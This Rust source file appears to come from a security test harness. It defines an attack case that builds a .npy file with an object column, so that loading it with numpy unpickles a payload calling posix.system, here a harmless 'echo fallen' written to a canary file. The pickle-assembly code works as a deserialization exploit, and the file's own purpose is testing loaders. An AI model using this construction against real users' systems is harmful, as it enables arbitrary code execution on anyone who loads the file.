//! A file of numpy that says it is a table of numbers and labels.

use super::*;

use crate::pickle::decode::Argument;

use crate::pickle::{Assembler, Op};

/// The labels are objects.
pub const ATTACK: Attack = Attack {
    id: "npy-object",
    title: "an object among the numbers of a .npy file",
    summary: "The header names a column of numbers and one of objects. One object is enough for \
              numpy to read the whole array as a pickle, which calls a program and then becomes a \
              proper array.",
    severity: Severity::Critical,
    targets: Targets::Python(&[Loader::Numpy]),
    techniques: &[techniques::UNIX_SHELL, techniques::UNSAFE_ML_ARTIFACTS],
    cwe: &[502],
    references: &[
        Reference { title: "CVE-2019-6446", url: "https://nvd.nist.gov/vuln/detail/CVE-2019-6446" },
        Reference {
            title: "NumPy documentation: numpy.load",
            url: "https://numpy.org/doc/stable/reference/generated/numpy.load.html",
        },
    ],
    build,
    expected: Expected::Effect {
        aquarium: &[Sign::Changed(CANARY), Sign::Happened(EventKind::Exec, "echo fallen")],
        policy: &[
            Evidence { kind: EventKind::Process, text: "" },
            Evidence { kind: EventKind::Exec, text: "echo fallen" },
        ],
    },
    quick: false,
};

fn build(scene: &Scene, target: Target) -> Result<Vec<u8>, BuildError> {
    let command = format!("echo fallen > '{}'", scene.path(CANARY));
    let mut assembler = Assembler::new();
    // numpy.array([(0.5, os.system(command))], dtype="f8,O")
    assembler.proto(4).global("numpy", "array").op(Op::EmptyList);
    assembler.write(Op::BinFloat, &Argument::Float(0.5));
    payload::call(&mut assembler, "posix", "system", &command);
    assembler.op(Op::Tuple2).op(Op::Append).text("f8,O").op(Op::Tuple2).op(Op::Reduce);
    let pickle = assembler.op(Op::Stop).finish().map_err(|error| BuildError {
        attack: ATTACK.id,
        target: target.id().into(),
        problem: error.to_string(),
    })?;
    Ok(payload::npy("[('weight', '<f8'), ('label', '|O')]", "(1,)", &pickle))
}
